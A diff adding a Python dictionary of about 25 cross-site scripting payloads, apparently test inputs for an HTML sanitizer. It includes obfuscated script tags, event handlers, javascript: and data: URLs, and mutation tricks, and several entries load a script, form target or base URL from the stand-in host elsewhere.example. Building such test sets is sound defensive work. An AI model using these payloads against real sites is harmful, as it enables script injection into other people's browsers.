@@ -1,0 +1,28 @@
+"""Ways to bring a script onto a page, as somebody might paste them."""
+
+PAYLOADS = {
+    "script": "<script>alert(1)</script>",
+    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
+    "script from elsewhere": '<script src="https://elsewhere.example/x.js"></script>',
+    "script without an end": "<script>alert(1)",
+    "script with a slash": "<script/x>alert(1)</script>",
+    "picture that fails": '<img src="x" onerror="alert(1)">',
+    "picture without quotes": "<img src=x onerror=alert(1)//",
+    "drawing": '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+    "drawing in a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    "address": '<a href="javascript:alert(1)">x</a>',
+    "address in capitals": '<a href="JaVaScRiPt:alert(1)">x</a>',
+    "address with a tab": '<a href="java\tscript:alert(1)">x</a>',
+    "address in entities": '<a href="&#106;avascript:alert(1)">x</a>',
+    "data address": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    "frame": '<iframe src="javascript:alert(1)"></iframe>',
+    "frame with a page": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
+    "form": '<form action="https://elsewhere.example/"><button formaction="javascript:alert(1)">x</button></form>',
+    "pointer": '<p onmouseover="alert(1)">x</p>',
+    "style": '<p style="background:url(javascript:alert(1))">x</p><style>@import "https://elsewhere.example/";</style>',
+    "mathematics": '<math><mtext><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></mtext></math>',
+    "template": '<template><script>1</script></template><noscript><p title="</noscript><img src=x onerror=1>">',
+    "base": '<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    "details": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
+}
